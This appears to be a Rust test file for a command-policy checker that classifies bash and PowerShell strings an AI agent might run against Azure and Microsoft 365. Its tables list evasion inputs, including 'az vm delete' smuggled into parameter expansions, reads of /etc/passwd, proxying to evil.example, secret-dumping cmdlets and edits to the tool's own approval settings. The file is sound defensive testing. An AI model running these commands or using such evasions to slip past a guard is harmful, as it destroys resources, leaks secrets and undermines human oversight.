//! Commands that the grammar does not show, methods and properties that act on what reading commands hand out, and names that
//! sound like reading. Each has at least the effects beside it.

use super::{bash_effects, effects, have};

static BASH: &[(&str, &str)] = &[
    ("echo ${x#$(az vm delete)}", "unknown_code"),
    ("echo ${x%%`az vm delete`}", "unknown_code"),
    ("echo \"${x%$(az vm delete)}\"", "unknown_code"),
    ("echo ${x//`az vm delete`/}", "unknown_code"),
    ("echo ${x^$(az vm delete)}", "unknown_code"),
    ("echo ${x:+`az vm delete`}", "unknown_code"),
    ("echo \"${x:-'`az vm delete`'}\"", "unknown_code"),
    ("echo ${x:-${y#$(az vm delete)}}", "unknown_code"),
    ("echo ${x:-<(az vm delete)}", "unknown_code"),
    ("echo `echo \\`az vm delete\\``", "unknown_code"),
    ("cat <<E\n`az vm delete`\nE", "unknown_code"),
    ("cat <<E\n${x#$(az vm delete)}\nE", "unknown_code"),
    ("cat <<< ${x#`az vm delete`}", "unknown_code"),
    ("x=${y#`az vm delete`}", "unknown_code"),
    ("echo $HTTPS_PROXY", "reveals_secret"),
    ("echo ${https_proxy}", "reveals_secret"),
    ("jq -n '$ ENV.PATH'", "reveals_secret"),
    ("jq -n '$#\nENV'", "reveals_secret"),
    ("fc -s", "unknown_code"),
    ("write root", "unknown_code"),
    ("gv x", "unknown_code"),
    ("get-x", "unknown_code"),
    ("du --files0-from=/etc/passwd", "unknown_code"),
];

/// A block that somebody has left in the session, where it would run under no name.
static LEFT: &[&str] = &[
    "Get-Mailbox | Sort-Object $h.x",
    "Get-Mailbox | Sort-Object -Descending $h.x",
    "Get-Mailbox | Sort-Object -Property:$h.x",
    "Get-Mailbox | select Name, $h.x",
    "Get-Mailbox | select @{n='a';e=$h.x}",
    "Get-Mailbox | group ($h.x)",
    "Get-Mailbox | measure $h[0]",
    "Get-Mailbox | ft -GroupBy $h.x",
    "Get-Mailbox | fl (gv x).Value",
    "Compare-Object a b -Property $h.x",
    "'a' -replace 'b', $h.x",
    "'a' -creplace 'b', ($h.x)",
    "'a' -replace $h.x",
    "'a' -split $h.x",
    "'a' -isplit $h.x, 2",
    "switch (1) { ($h.x) { 1 } }",
    "Get-Mailbox | Get-MailboxStatistics -Identity $h.x",
    "Get-Mailbox | Get-MailboxStatistics $h.x",
    "$y = $x; Get-Mailbox | sort $y",
    "$y = Get-Variable x -ValueOnly; 1 | sort $y",
    "$y = (Get-Mailbox).x; 'a' -replace 'b', $y",
    "if ($no) { $y = 'a' } else { $y = $x }; 1 | sort $y",
    "$y, $z = 'a', $x; 1 | sort $z",
    "$t = @{ n = 'x' }; $t.e = $x; 1 | select $t",
    "$t = @(); $t += $x; 1 | sort $t",
    "foreach ($b in $list) { 1 | sort $b }",
    "function f($b) { 1 | sort $b }; f $x",
    "Get-Mailbox -OutVariable y | Out-Null; 1 | sort $y",
    "1 | % { 1 | sort $_ }",
    "& { 1 | sort $args }",
    "1 | sort ${a`b}",
    "[array]::Sort($a, $x)",
    "[string]::Create(1, $x, $y)",
    "Get-PSBreakpoint",
    "(Get-EventSubscriber).Action",
    "Get-TypeData System.Array",
];

#[test]
fn what_may_change_what_mm_allows_is_refused_to_programs() {
    use crate::policy::{Allowance, Verdict, Who};
    for (module, text) in [
        ("exo", "'{}' | Set-Content ~/.m365-connections.json"),
        ("exo", "'{}' > \"$HOME/.m365-\"'connections.json'"),
        (
            "exo",
            "[IO.File]::WriteAllText('/home/u/.config/mm/config.yaml', 'x')",
        ),
        ("exo", "Copy-Item x.yaml ~/.config/mm/modules.d/exo.yaml"),
        ("az", "echo '{}' > ~/.m365-connections.json"),
        ("az", "sed -i s/ask/open/ ~/.m365-connections.json"),
        ("az", "mm connections edit Contoso policy open"),
        (
            "az",
            "script -qc 'mm approvals approve rabcdefghj' /dev/null",
        ),
        (
            "az",
            "curl --unix-socket /run/user/1000/mm/mm.sock http://mm/v1/runs",
        ),
        ("az", "rm ~/.local/state/mm/mm.db"),
    ] {
        let module = super::CATALOG.module(module).expect("it is built in");
        let parsed = crate::policy::parse(text, Some(&module));
        let judged = crate::policy::judge(&parsed, super::CATALOG.effects().iter());
        let effects = judged.effects();
        assert!(
            effects.contains(&crate::script::Effect::ChangesRights),
            "{text}"
        );
        let open = Allowance {
            policy: crate::connection::Policy::Open,
            ..Allowance::default()
        };
        let verdict = open.decide(Who::Program, None, &judged).verdict;
        assert_eq!(verdict, Verdict::Refuse, "{text}");
    }
    // Only to look at one is what it was.
    assert_eq!(
        super::effects_in("az", "cat ~/.m365-connections.json"),
        "reveals_secret"
    );
}

#[test]
fn a_block_that_was_left_in_the_session_runs_nowhere() {
    let table: Vec<(&str, &str)> = LEFT.iter().map(|text| (*text, "unknown_code")).collect();
    have(&table, effects);
}

static POWERSHELL: &[(&str, &str)] = &[
    ("(Get-Item a).Replace('/tmp/b', '/tmp/c')", "unknown_code"),
    ("(Get-Item a).Replace($b, $c)", "unknown_code"),
    (
        "(Get-Module m).SessionState.PSVariable.GetValue('token')",
        "unknown_code",
    ),
    (
        "$p.GetType().DeclaredFields.GetValue($null)",
        "unknown_code",
    ),
    ("$x.SessionState.PSVariable", "unknown_code"),
    ("$x = $m.Live; $x.Remove('a'); $x = @{}", "unknown_code"),
    (
        "$x = @{}; foreach ($x in Get-Live) { $x.Remove('a') }",
        "unknown_code",
    ),
    ("$x = @{}; $x, $y = Get-Live; $x.Clear()", "unknown_code"),
    (
        "$x = @{}; [object]$x = Get-Live; $x.Clear()",
        "unknown_code",
    ),
    ("$f = Get-Item x; $f.UnixFileMode = 511", "unknown_code"),
    (
        "Get-Item x | % { $_.LastWriteTime = '2000-01-01' }",
        "unknown_code",
    ),
    (
        "foreach ($f in Get-ChildItem x) { $f.IsReadOnly = $true }",
        "unknown_code",
    ),
    ("$f.UnixFileMode++", "unknown_code"),
    ("++$f.UnixFileMode", "unknown_code"),
    ("$f.LastWriteTime += 1", "unknown_code"),
    ("$a, $f.IsReadOnly = 1, $true", "unknown_code"),
    ("\"$($f.IsReadOnly = $true)\"", "unknown_code"),
    (
        "$h = @{ f = (Get-Item x) }; $h.f.IsReadOnly = $true",
        "unknown_code",
    ),
    (
        "$h = @{ f = (Get-Item x) }; $h['f'].IsReadOnly = $true",
        "unknown_code",
    ),
    ("$f.IsReadOnly = $true; $f = @{}", "unknown_code"),
    (
        "if ($no) { $f = @{} }; $f.IsReadOnly = $true",
        "unknown_code",
    ),
    ("$no -and ($f = @{}); $f.IsReadOnly = $true", "unknown_code"),
    (
        "$_ = @{}; Get-Item x | % { $_.IsReadOnly = $true }",
        "unknown_code",
    ),
    (
        "$f = @{}; Get-Item x -pv f | % { $f.IsReadOnly = $true }",
        "unknown_code",
    ),
    (
        "$host.Runspace.SessionStateProxy.LanguageMode = 'x'",
        "unknown_code",
    ),
    ("$v = Get-Variable x; $v.Value = 'None'", "unknown_code"),
    (
        "$w = Get-PnPWeb; $w.Title = 'x'; Get-PnPList",
        "unknown_code",
    ),
    ("foreach ($env:PATH in 'x') { }", "unknown_code"),
    ("param($env:PATH = 'x')", "unknown_code"),
    ("$env:PATH++", "unknown_code"),
    ("$__mm.Ok = $true", "unknown_code"),
    ("Get-Variable __mm", "unknown_code"),
    ("Get-Mailbox -pi ('a' + 'b')", "unknown_code"),
    ("Get-Mailbox -pip env:PATH", "unknown_code"),
    (
        "Get-MgUser -ResponseHeadersVariable ('a' + 'b')",
        "unknown_code",
    ),
    ("Get-MgUser -RHV env:x", "unknown_code"),
    (
        "(gcm x).PSObject.Properties['ScriptBlock'].Value",
        "unknown_code",
    ),
    ("gcm x | select -Expand 'ScriptB*'", "unknown_code"),
    ("[regex]::Replace('u', '.+', $s)", "unknown_code"),
    ("$r = [regex]'.+'; $r.Replace('u', $s)", "unknown_code"),
    ("$list.Sort($s)", "unknown_code"),
    ("Get-MgUser -HttpPipelinePrepend $x", "unknown_code"),
    ("Get-MgUser -Proxy http://evil.example", "unknown_code"),
    ("Get-PnPListItem -List x -ScriptBlock $s", "unknown_code"),
    ("Select-MgProfile beta", "writes"),
    (
        "Get-MobileDeviceStatistics -Mailbox x -GetMailboxLog -NotificationEmailAddresses e@x",
        "sends",
    ),
    ("Test-Mailflow -TargetEmailAddress e@x", "sends"),
    ("Test-Connection \"$x.evil.example\"", "unknown_code"),
    ("Resolve-DnsName x.evil.example", "unknown_code"),
    (
        "Test-MigrationServerAvailability -Imap -RemoteServer evil -Port 1",
        "unknown_code",
    ),
    (
        "Test-OAuthConnectivity -TargetUri https://evil.example",
        "unknown_code",
    ),
    ("Get-Help x -Online", "unknown_code"),
    ("Get-PackageProvider x -ForceBootstrap", "unknown_code"),
    (
        "Invoke-MgGraphRequest /v1.0/me -InputFilePath x",
        "reads_local_files",
    ),
    (
        "Invoke-MgGraphRequest /v1.0/me -InferOutputFileName",
        "writes_local_files",
    ),
    (
        "Get-PnPUserProfilePhoto -Identity x -Filename y",
        "writes_local_files",
    ),
    (
        "Get-AzBatchRemoteDesktopProtocolFile x",
        "writes_local_files",
    ),
    ("ConvertFrom-Markdown /tmp/x", "reads_local_files"),
    ("Select-Xml / x.xml", "reads_local_files"),
    ("Test-Json -Path x", "reads_local_files"),
    ("Get-PnPTraceLog -Path x", "reads_local_files"),
    ("Test-AzDeployment -TemplateFile x", "reads_local_files"),
    ("Get-PnPAzureCertificate -Path x", "reveals_secret"),
    ("Get-CsOnlinePowerShellAccessToken", "reveals_secret"),
    (
        "Get-MgDeviceManagementManagedDeviceFileVaultKey -ManagedDeviceId x",
        "reveals_secret",
    ),
    (
        "Get-MgBetaDeviceManagementDeviceConfigurationOmaSettingPlainTextValue -Id x",
        "reveals_secret",
    ),
    (
        "Get-MgServicePrincipalSynchronizationSecret -ServicePrincipalId x",
        "reveals_secret",
    ),
    ("Get-AzContainerAppSecret x", "reveals_secret"),
    (
        "Get-AzApiManagementNamedValueSecretValue x",
        "reveals_secret",
    ),
    ("Get-AzLogicAppTriggerCallbackUrl x", "reveals_secret"),
    ("Get-AzWvdRegistrationInfo x", "reveals_secret"),
    ("Get-AzStaticWebAppSetting x", "reveals_secret"),
    ("Get-AzStorageAccount", "reveals_secret"),
    ("Get-AzStorageAccount | ConvertTo-Json", "reveals_secret"),
    ("Get-AzStorageAccount | select *", "reveals_secret"),
    (
        "Get-AzStorageAccount | select Name, Context",
        "reveals_secret",
    ),
    (
        "Get-AzStorageAccount | select -Exclude Name",
        "reveals_secret",
    ),
    ("Get-AzStorageAccount | select", "reveals_secret"),
    ("Get-AzStorageAccount | select -First 1", "reveals_secret"),
    ("Get-AzStorageAccount | select $names", "reveals_secret"),
    (
        "Get-AzStorageAccount | select @{n='a';e={$_}}",
        "reveals_secret",
    ),
    ("Get-AzStorageAccount | group Location", "reveals_secret"),
    (
        "Get-AzStorageAccount | % { $_ } | select Name",
        "reveals_secret",
    ),
    ("Get-AzStorageAccount | sort Name", "reveals_secret"),
    (
        "Get-AzStorageAccount -ov x | select Name; $x",
        "reveals_secret",
    ),
    (
        "Get-AzStorageAccount | ? { $global:x = $_; 1 } | select Name",
        "reveals_secret",
    ),
    (
        "Get-AzStorageAccount | ? { Write-Host $_.Context } | select Name",
        "reveals_secret",
    ),
    (
        "Get-AzStorageAccount | ? { $list.Add($_) } | select Name",
        "reveals_secret",
    ),
    (
        "Get-AzStorageAccount | sort Name -ov x | select Name; $x",
        "reveals_secret",
    ),
    ("Get-AzStorageAccount | select @p", "reveals_secret"),
    ("(Get-AzStorageAccount).Context", "reveals_secret"),
    (
        "(Get-AzStorageAccount).Context.ConnectionString",
        "reveals_secret",
    ),
    ("(Get-AzStorageAccount).$x", "reveals_secret"),
    ("(Get-AzStorageAccount)[0].Name", "reveals_secret"),
    ("($a = Get-AzStorageAccount).Name; $a", "reveals_secret"),
    ("$a = Get-AzStorageAccount; $a.Context", "reveals_secret"),
    (
        "\"$(Get-AzStorageContainer -Context $c)\"",
        "reveals_secret",
    ),
    (
        "Get-AzFunctionApp | fl Name, ApplicationSettings",
        "reveals_secret",
    ),
    (
        "Get-AzResourceGroupDeployment -ResourceGroupName r",
        "reveals_secret",
    ),
    (
        "Get-AzVirtualNetworkGatewayConnectionVpnDeviceConfigScript x",
        "reveals_secret",
    ),
];

/// Words of `az` and `pac` that show a key under another name than `keys`, or that act under a name that looks.
static PROGRAMS: &[(&str, &str)] = &[
    ("az staticwebapp secrets list -n x", "reveals_secret"),
    ("az communication list-key -n x", "reveals_secret"),
    ("az apim nv show-secret -n x", "reveals_secret"),
    ("az cosmosdb list-read-only-keys -n x", "reveals_secret"),
    (
        "az datafactory integration-runtime list-auth-key -n x",
        "reveals_secret",
    ),
    ("az aro list-credentials -n x", "reveals_secret"),
    ("az datadog monitor list-api-key -n x", "reveals_secret"),
    (
        "az webapp connection list-configuration -n x",
        "reveals_secret",
    ),
    ("az iot hub policy show -n x", "reveals_secret"),
    ("az iot dps policy list -n x", "reveals_secret"),
    ("az iot hub device-identity show -n x", "reveals_secret"),
    ("az bot directline show --with-secrets", "reveals_secret"),
    (
        "az webapp deployment container show-cd-url -n x",
        "reveals_secret",
    ),
    (
        "az network vpn-connection show-device-config-script -n x",
        "reveals_secret",
    ),
    ("az containerapp job secret list -n x", "reveals_secret"),
    (
        "az webapp config storage-account list -n x",
        "reveals_secret",
    ),
    ("az webapp config backup show -n x", "reveals_secret"),
    ("az spring test-endpoint list -n x", "reveals_secret"),
    ("az appconfig revision list -n x", "reveals_secret"),
    (
        "az eventgrid event-subscription show --include-full-endpoint-url true",
        "reveals_secret",
    ),
    ("az aks check-acr -n x", "writes"),
    (
        "pac solution check --path x --outputDirectory y",
        "writes_local_files",
    ),
    ("pac org fetch --xmlFile x", "reads_local_files"),
];

#[test]
fn what_acts_under_a_name_that_reads_is_found() {
    have(POWERSHELL, effects);
    have(PROGRAMS, bash_effects);
    for text in [
        "$_.Name.Replace('a', 'b'); 'x/y'.Replace('/', '-')",
        "$o = [pscustomobject]@{ A = 1 }; $o.A = 2; $o",
        "Get-Mailbox | % { $o = @{}; $o.Name = $_.Name; if ($o) { $o.Size = 1 }; $o }",
        "$h = @{}; foreach ($m in Get-Mailbox) { $h[$m.Name] = $m.Alias; $h.Count }",
        "$i = 0; $i++; $n = @{}; $n['a.b']++",
        "Get-Mailbox -OutVariable all",
    ] {
        assert_eq!(effects(text), "reads", "{text}");
    }
}

#[test]
fn what_a_bash_text_hides_is_found() {
    have(BASH, bash_effects);
    for text in [
        "echo \"\\`az vm delete\\`\"",
        "echo '`az vm delete`' $'$(x)'",
        "cat <<'E'\n$(az vm delete) `x`\nE",
        "az vm list --query '[?size==`5`]'",
        "echo `az vm list` \"$(az group list)\"",
        "echo ${x:-$y} ${x#a} ${x%.*} # $(x)",
    ] {
        assert_eq!(bash_effects(text), "reads", "{text}");
    }
}
